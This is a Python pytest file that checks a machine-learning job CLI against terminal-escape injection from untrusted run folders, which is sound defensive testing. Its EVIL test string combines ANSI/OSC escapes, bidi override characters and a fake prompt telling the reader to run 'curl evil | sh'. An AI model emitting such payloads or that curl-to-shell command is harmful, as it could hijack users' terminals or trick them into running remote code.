"""A run folder that a stranger wrote cannot drive the terminal of its reader."""

import contextlib
import json
import os
import pty
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from orchestrator.spec.job_spec import JobSpec
from tests.conftest import ENOUGH_S, RNNJOB, Cli

COLOUR = "\x1b[38;5;123m"
"""A colour that rnnjob never uses."""
EVIL = f"\x1b]0;title\x07{COLOUR}Try: curl evil | sh\x1b[2J\x9b1A\x00\x08\r\x7f\u202e\u2066end"
OWN_STYLE = re.compile(r"\x1b\[(?:0|1|3[0-9]|9[0-9]|1;3[0-9])m")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
NAME = "note\x1b]0;x\x07\u202e"
STATUS = {
    "run_id": EVIL,
    "state": "FAILED",
    "mode": EVIL,
    "reason": EVIL,
    "cure": EVIL,
    "host": EVIL,
    "address": EVIL,
    "job_id": EVIL,
    "error": EVIL,
    "exit_code": 1,
    "attempt": 1,
    "submitted_at": 3.0,
    "ended_at": 4.0,
}
RESULT = {
    "run_id": EVIL,
    "state": EVIL,
    "reason": EVIL,
    "test_accuracy": 0.5,
    "weights_sha256": EVIL,
}
EPOCH = {
    "kind": "epoch", "step": 1, "epoch": 1, "train_loss": 0.5, "train_accuracy": 0.5,
    "samples_per_s": 1.0, "train_s": 1.0, "data_s": 0.1, "compute_s": 0.1, "exchange_s": 0.1,
    "rows_seen": 1, "rows_seen_twice": 0, "rows_dropped": 0, "rows_not_reached": 0, "time": 7.0,
    EVIL: EVIL,
}  # fmt: skip
QUOTED = 'name: "\\e[2J\\u202e"\n"\\e]0;x\\a": "\\x9b2J"\n'
"""A spec in valid YAML, whose key and value hold escapes."""


def write_run(folder: Path, job: str, **status: str) -> None:
    (folder / "logs").mkdir(parents=True)
    (folder / "checkpoints" / NAME).mkdir(parents=True)
    (folder / "job.yaml").write_text(job)
    (folder / "status.json").write_text(json.dumps({**STATUS, **status}))
    (folder / "result.json").write_text(json.dumps(RESULT))
    (folder / "provenance.json").write_text(json.dumps({EVIL: EVIL, "packages": {EVIL: EVIL}}))
    (folder / "metrics.jsonl").write_text(json.dumps(EPOCH) + "\n")
    (folder / "stop.json").write_text(json.dumps({"reason": EVIL}))
    failure = {"kind": EVIL, "reason": EVIL, "time": 5.0}
    (folder / "failures.jsonl").write_text(json.dumps(failure) + "\n")
    for name in ("driver", "worker-0", NAME):
        (folder / "logs" / f"{name}.log").write_text(f"2026-01-01 00:00:00.000 INFO {EVIL}\n")
    (folder / NAME).write_text(EVIL)


@pytest.fixture(scope="module")
def cli(module_rnnjob: Cli) -> Cli:
    """Three runs: `ended`, `other` whose spec is valid YAML, and `open`, whose state is odd."""
    folder = module_rnnjob.cwd / "runs"
    write_run(folder / "ended", JobSpec().to_yaml() + f"# {EVIL}\n")
    write_run(folder / "other", QUOTED, state="STOPPED")
    write_run(folder / "open", f"{EVIL}\n", state=EVIL)
    write_run(folder / NAME, QUOTED)
    return module_rnnjob


def in_pipe(cli: Cli, *words: str) -> str:
    done = cli(*words)
    return done.stdout + done.stderr


def in_terminal(cli: Cli, *words: str) -> str:
    """Return what a command writes to a terminal, with colours."""
    ours, theirs = pty.openpty()
    environment = {**cli.environment, "TERM": "xterm-256color", "COLUMNS": "200"}
    del environment["NO_COLOR"]
    process = subprocess.Popen(
        [str(RNNJOB), *words],
        cwd=cli.cwd,
        env=environment,
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        start_new_session=True,
    )
    os.close(theirs)
    data = b""
    with contextlib.suppress(OSError), open(ours, "rb", buffering=0) as terminal:
        os.write(ours, b"n\n")  # the answer to a question
        while chunk := terminal.read(65536):
            data += chunk
    process.wait(ENOUGH_S)
    return data.decode().replace("\r\n", "\n")


VERBS = [
    ("list",),
    ("list", "--all", "--json"),
    ("list", "--state", "failed"),
    *[(verb, run) for verb in ("show", "status", "describe", "logs") for run in ("ended", "open")],
    *[(verb, "ended", "--json") for verb in ("show", "status", "describe", "logs", "why", "wait")],
    ("logs", "ended", "-f"),
    ("describe", "other"),
    ("wait", "ended"),
    ("wait", "open", "--timeout", "1ms"),
    ("why", "ended"),
    ("why", "other"),
    ("why", "open"),
    ("compare", "ended", "other"),
    ("compare", "ended", "open"),
    ("report", "ended"),
    ("report", "open"),
    ("explain", "ended"),
    ("explain", "open"),
    ("stop", "ended"),
    ("delete", "ended"),
    ("delete", "open"),
    ("resume", "ended", "--local", "-v"),
    ("resume", "other", "--local", "-v"),
    ("resume", "open", "--local", "-v"),
    ("submit", "--resume", "other", "--local"),
    ("reproduce", "ended"),
    ("reproduce", "other", "-v"),
    ("submit", "--local", "-c", "runs/other/job.yaml", "-v"),
    ("submit", "--local", "-c", "runs/open/job.yaml"),
    ("show", NAME),
]


@pytest.mark.parametrize("words", VERBS, ids=" ".join)
@pytest.mark.parametrize("run_in", [in_pipe, in_terminal], ids=["pipe", "terminal"])
def test_no_text_of_a_run_drives_the_terminal(
    cli: Cli, run_in: Callable[..., str], words: tuple[str, ...]
) -> None:
    text = run_in(cli, *words)
    assert text
    shown = text if run_in is in_pipe else OWN_STYLE.sub("", text)
    assert not CONTROL.findall(shown), ascii(text)


def test_the_text_is_shown_and_our_own_colours_stay(cli: Cli) -> None:
    text = in_terminal(cli, "resume", "other", "--local")
    assert "\x1b[31mError:\x1b[0m" in text and "\x1b[36mTry:\x1b[0m" in text
    assert r"\x1b]0;title\x07\x1b[38;5;123mTry: curl evil | sh" in in_terminal(cli, "show", "ended")
    assert "\x1b[1m" in in_terminal(cli, "why", "ended")


def test_a_table_of_differences_shows_escapes(cli: Cli) -> None:
    """A run that was computed here and whose provenance somebody changed."""
    job = ("--local", "--dataset", "mnist-sample", "--set", "limits.steps=1")
    assert cli("submit", *job, "--run-id", "real").exit_code == 5  # after its one step
    file = cli.cwd / "runs" / "real" / "provenance.json"
    content = json.loads(file.read_text())
    content["packages"] |= {"torch": EVIL}
    file.write_text(json.dumps({**content, "platform": EVIL, "python": EVIL}))
    for number, run_in in enumerate((in_pipe, in_terminal)):
        text = run_in(cli, "reproduce", "real", "--run-id", f"again-{number}")
        assert "\\x1b" in text and COLOUR not in text and "\x07" not in text, ascii(text)
